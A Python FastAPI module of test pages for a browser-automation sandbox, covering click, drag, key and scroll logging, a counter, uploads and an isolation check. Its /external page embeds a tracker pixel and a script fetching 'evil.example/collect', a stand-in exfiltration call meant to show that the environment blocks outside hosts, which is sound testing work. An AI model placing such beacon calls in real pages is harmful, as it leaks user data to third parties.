"""A small app of test pages (``playground.localhost``) to exercise every action and the settling logic.

It is not discovered by the registry: pass ``PLAYGROUND`` explicitly (``make_env(app="playground",
apps=...)`` adds it when asked for). Pages:

- ``/``: buttons that log clicks with buttons, counts and modifier keys, a drag handle (pointer
  events) and an HTML5 drag source/target, a scrollable box, text inputs, a select, a key log, a hover
  target, a link, a form.
- ``/counter?n=N``: a big block whose colour encodes N (red = N % 256, green = N // 256) and buttons
  that increment it synchronously, after a slow fetch, by a link and by a form post: every kind of
  change an observation must never miss.
- ``/external``: a page that tries to reach other hosts (blocked by the environment).
- ``/whoami``: the world and user a request runs as; ``/nocontent`` (204) and ``/download``: links
  whose navigation never commits.
- ``/upload``: file fields (one file, several files) posted to a page listing what arrived, and the
  download link, for ``upload_file`` and the episode's files.
"""

from __future__ import annotations

import asyncio
import html
from pathlib import Path

from fastapi import APIRouter, Form, Request
from fastapi.responses import HTMLResponse, JSONResponse, RedirectResponse, Response

from apps_web.registry import AppSpec

router = APIRouter()

_STYLE = """
<style>
  html, body { margin: 0; font: 15px/1.3 "DejaVu Sans", sans-serif; background: #fff; color: #111; }
  * { animation: none !important; transition: none !important; }
  button, input, select, textarea { font: inherit; }
  .abs { position: absolute; }
</style>
"""


def _page(title: str, body: str, script: str = "") -> HTMLResponse:
    return HTMLResponse(
        f"<!doctype html><html lang=en><head><meta charset=utf-8><title>{html.escape(title)}</title>"
        f'<link rel="icon" href="data:,">{_STYLE}</head><body>{body}<script>{script}</script></body></html>'
    )


_PLAYGROUND = """
<h1 class=abs style="left:20px;top:0;margin:8px 0;font-size:20px">Playground</h1>
<button id=btn class=abs style="left:20px;top:50px;width:160px;height:50px">Click me</button>
<output id=last class=abs style="left:200px;top:60px;width:1000px" aria-label="Last event"></output>
<div id=handle class=abs role=button aria-label="Drag handle"
     style="left:20px;top:120px;width:60px;height:60px;background:#36c;touch-action:none"></div>
<div id=dnd-src class=abs draggable=true role=button aria-label="Draggable card"
     style="left:120px;top:120px;width:100px;height:60px;background:#fc6">Card</div>
<div id=dnd-target class=abs role=region aria-label="Drop zone"
     style="left:260px;top:120px;width:200px;height:60px;border:2px dashed #888">Drop here</div>
<div id=scroller class=abs role=region aria-label="Scroll box" tabindex=0
     style="left:20px;top:200px;width:300px;height:150px;overflow:auto;border:1px solid #888">
  <div style="height:3000px;width:2000px;background:linear-gradient(#fff,#9cf)">Scroll me</div>
</div>
<label for=text class=abs style="left:360px;top:200px">Name</label>
<input id=text class=abs style="left:420px;top:200px;width:300px" autocomplete=off>
<label for=area class=abs style="left:360px;top:240px">Notes</label>
<textarea id=area class=abs style="left:420px;top:240px;width:300px;height:60px"></textarea>
<label for=color class=abs style="left:360px;top:320px">Colour</label>
<select id=color class=abs style="left:420px;top:320px">
  <option value=r>Red</option><option value=g>Green</option><option value=b>Blue</option>
</select>
<label class=abs style="left:560px;top:320px"><input id=agree type=checkbox> I agree</label>
<div id=hover class=abs role=note style="left:20px;top:380px;width:160px;height:40px;background:#eee">Hover me</div>
<a id=link class=abs href="/page2" style="left:200px;top:390px">Go to page two</a>
<a id=popup class=abs href="/page2" target=_blank style="left:200px;top:410px">Open page two in a new tab</a>
<a id=nocontent class=abs href="/nocontent" style="left:760px;top:200px">Empty response</a>
<a id=download class=abs href="/download" style="left:760px;top:230px">Download a file</a>
<form id=form class=abs method=post action="/submit" style="left:360px;top:380px">
  <label for=title>Title</label> <input id=title name=title autocomplete=off>
  <button id=save type=submit>Save</button>
</form>
<p id=keys class=abs aria-label="Key log" style="left:20px;top:440px;width:1200px;margin:0"></p>
<div class=abs style="left:0;top:0;width:10px;height:2400px"></div>
"""

_PLAYGROUND_JS = """
const log = window.sbxLog = [];
const last = document.getElementById('last');
function mods(e) { return ['shift', 'ctrl', 'alt', 'meta'].filter(m => e[m + 'Key']); }
function rec(kind, detail) { log.push({kind, ...detail}); last.textContent = kind + ' ' + JSON.stringify(detail); }
const btn = document.getElementById('btn');
btn.addEventListener('click', e => rec('click', {button: e.button, detail: e.detail, mods: mods(e)}));
btn.addEventListener('auxclick', e => rec('auxclick', {button: e.button, mods: mods(e)}));
btn.addEventListener('dblclick', e => rec('dblclick', {mods: mods(e)}));
btn.addEventListener('contextmenu', e => { e.preventDefault(); rec('contextmenu', {mods: mods(e)}); });
btn.addEventListener('mousedown', e => rec('mousedown', {button: e.button, x: e.clientX, y: e.clientY}));
btn.addEventListener('mouseup', e => rec('mouseup', {button: e.button, x: e.clientX, y: e.clientY}));
const handle = document.getElementById('handle');
let grab = null, moves = 0;
handle.addEventListener('pointerdown', e => { grab = [e.clientX - handle.offsetLeft, e.clientY - handle.offsetTop]; moves = 0; handle.setPointerCapture(e.pointerId); });
handle.addEventListener('pointermove', e => { if (!grab) return; moves++; handle.style.left = (e.clientX - grab[0]) + 'px'; handle.style.top = (e.clientY - grab[1]) + 'px'; });
handle.addEventListener('pointerup', e => { if (!grab) return; grab = null; rec('drop', {x: handle.offsetLeft, y: handle.offsetTop, moves, mods: mods(e)}); });
const target = document.getElementById('dnd-target');
document.getElementById('dnd-src').addEventListener('dragstart', e => e.dataTransfer.setData('text/plain', 'card'));
target.addEventListener('dragover', e => e.preventDefault());
target.addEventListener('drop', e => { e.preventDefault(); target.textContent = 'Dropped ' + e.dataTransfer.getData('text/plain'); rec('html5drop', {}); });
const scroller = document.getElementById('scroller');
scroller.addEventListener('scroll', () => rec('scroll', {top: scroller.scrollTop, left: scroller.scrollLeft}));
window.addEventListener('scroll', () => rec('winscroll', {y: window.scrollY}));
const keys = document.getElementById('keys');
document.addEventListener('keydown', e => { keys.textContent += (keys.textContent ? ' ' : '') + mods(e).concat([e.key]).join('+'); rec('keydown', {key: e.key, mods: mods(e)}); });
document.addEventListener('keyup', e => rec('keyup', {key: e.key}));
const hover = document.getElementById('hover');
hover.addEventListener('mouseenter', () => { hover.textContent = 'Hovered'; rec('hover', {}); });
document.addEventListener('wheel', e => rec('wheel', {dx: e.deltaX, dy: e.deltaY, mods: mods(e)}), {passive: true});
"""


@router.get("/", response_class=HTMLResponse)
def playground() -> HTMLResponse:
    return _page("Playground", _PLAYGROUND, _PLAYGROUND_JS)


@router.post("/submit")
def submit(title: str = Form("")) -> RedirectResponse:
    from urllib.parse import quote

    return RedirectResponse(f"/done?title={quote(title)}", status_code=303)


@router.get("/done", response_class=HTMLResponse)
def done(title: str = "") -> HTMLResponse:
    return _page("Saved", f'<h1>Saved</h1><p id=saved>Saved title: <b>{html.escape(title)}</b></p><a href="/">Back to the playground</a>')


@router.get("/page2", response_class=HTMLResponse)
def page2() -> HTMLResponse:
    return _page("Page two", '<h1>Page two</h1><a id=home href="/">Back to the playground</a>')


_COUNTER = """
<div id=block role=img aria-label="Counter {n}" class=abs
     style="left:0;top:0;width:400px;height:300px;background:rgb({r},{g},200);color:#fff;font-size:160px;text-align:center;line-height:300px">{n}</div>
<button id=inc class=abs style="left:420px;top:10px;width:200px;height:40px">Increment</button>
<button id=inc-fetch class=abs style="left:420px;top:60px;width:200px;height:40px">Increment (slow fetch)</button>
<a id=inc-nav class=abs href="/counter?n={n1}&delay={delay}" style="left:420px;top:115px;display:block;width:200px;height:30px">Increment (new page)</a>
<form class=abs method=post action="/counter?delay={delay}" style="left:420px;top:160px">
  <input id=inc-post-n type=hidden name=n value="{n}"><button id=inc-post type=submit style="width:200px;height:40px">Increment (form)</button>
</form>
<input id=typed class=abs aria-label="Typed" style="left:420px;top:220px;width:200px" autocomplete=off>
"""

_COUNTER_JS = """
let n = {n};
const block = document.getElementById('block');
function show(v) {
  n = v; block.textContent = v; block.style.background = `rgb(${v & 255}, ${(v >> 8) & 255}, 200)`;
  block.setAttribute('aria-label', 'Counter ' + v);
  document.getElementById('inc-nav').href = '/counter?n=' + (v + 1) + '&delay={delay}';
  document.getElementById('inc-post-n').value = v;
}
document.getElementById('inc').addEventListener('click', () => show(n + 1));
document.getElementById('inc-fetch').addEventListener('click', async () => {
  const res = await fetch('/api/next?n=' + n + '&delay={delay}');
  show((await res.json()).n);
});
document.addEventListener('keydown', e => { if (e.key === '+' || e.key === 'ArrowUp') show(n + 1); });
document.getElementById('typed').addEventListener('input', e => show(n + 1));
"""


@router.get("/counter", response_class=HTMLResponse)
def counter(n: int = 0, delay: int = 50) -> HTMLResponse:
    delay = max(0, min(delay, 2000))
    body = _COUNTER.format(n=n, n1=n + 1, r=n & 255, g=(n >> 8) & 255, delay=delay)
    return _page(f"Counter {n}", body, _COUNTER_JS.replace("{n}", str(n)).replace("{delay}", str(delay)))


@router.post("/counter")
def counter_post(n: int = Form(0), delay: int = 50) -> RedirectResponse:
    return RedirectResponse(f"/counter?n={n + 1}&delay={delay}", status_code=303)


@router.get("/api/next")
async def api_next(n: int = 0, delay: int = 0) -> JSONResponse:
    # Simulates a slow API so tests prove that settling waits for the page's own requests.
    if delay > 0:
        await asyncio.sleep(min(delay, 2000) / 1000)
    return JSONResponse({"n": n + 1})


@router.get("/nocontent")
def nocontent() -> Response:
    return Response(status_code=204)


@router.get("/download")
def download() -> Response:
    return Response("a,b\n1,2\n", media_type="text/csv", headers={"Content-Disposition": 'attachment; filename="data.csv"'})


_UPLOAD = """
<h1 class=abs style="left:40px;top:0">Upload</h1>
<form method=post action=/upload enctype=multipart/form-data>
  <label class=abs style="left:40px;top:70px">One file <input id=one type=file name=one></label>
  <label class=abs style="left:40px;top:120px">Several files <input id=many type=file name=many multiple></label>
  <button id=send class=abs style="left:40px;top:170px;width:120px;height:36px">Upload</button>
</form>
<a id=get class=abs href="/download" style="left:40px;top:230px">Download data.csv</a>
"""


@router.get("/upload", response_class=HTMLResponse)
def upload_page() -> HTMLResponse:
    return _page("Upload", _UPLOAD)


@router.post("/upload", response_class=HTMLResponse)
async def upload(request: Request) -> HTMLResponse:
    """The files received, with their sizes and text (the file-chooser tests read them)."""
    form = await request.form()
    rows = []
    for field in ("one", "many"):
        for f in form.getlist(field):
            if getattr(f, "filename", ""):
                data = await f.read()
                rows.append(f"<li>{field}: {html.escape(f.filename)} ({len(data)} bytes) {html.escape(data.decode(errors='replace'))}</li>")
    return _page("Uploaded", f"<h1>Uploaded</h1><ul id=received>{''.join(rows)}</ul>")


@router.get("/whoami")
def whoami(request: Request) -> JSONResponse:
    """The world and the signed-in user this request runs as (isolation tests)."""
    from apps_web.identity.session import SESSION_COOKIE

    world = getattr(request.state, "world", None)
    session = request.app.state.host.signer.load_session(request.cookies.get(SESSION_COOKIE))
    return JSONResponse({
        "world": world.id if world is not None else None,
        "user": session.username if session is not None else None,
        "header": request.headers.get("x-sandbox-world"),
    })


@router.get("/external", response_class=HTMLResponse)
def external(request: Request) -> HTMLResponse:
    port = request.url.port
    body = (
        '<h1>External</h1><img alt="tracker" src="http://example.com/pixel.png" width=1 height=1>'
        f'<img alt="other port" src="http://localhost:{(port or 80) + 1}/x.png" width=1 height=1>'
        '<p id=status>pending</p>'
    )
    script = (
        "fetch('https://evil.example/collect?x=1').then(() => 'reached', () => 'blocked')"
        ".then(s => { document.getElementById('status').textContent = s; });"
    )
    return _page("External", body, script)


def _router() -> APIRouter:
    return router


PLAYGROUND = AppSpec(
    name="playground",
    title="Playground",
    description="Test pages for the environment runtime: every action has a visible effect.",
    icon='<svg viewBox="0 0 24 24" aria-hidden="true"><circle cx="12" cy="12" r="9"/></svg>',
    package_dir=Path(__file__).parent / "_playground",  # no templates or static files of its own
    router=_router,
    order=1000,
)

__all__ = ["PLAYGROUND", "router"]
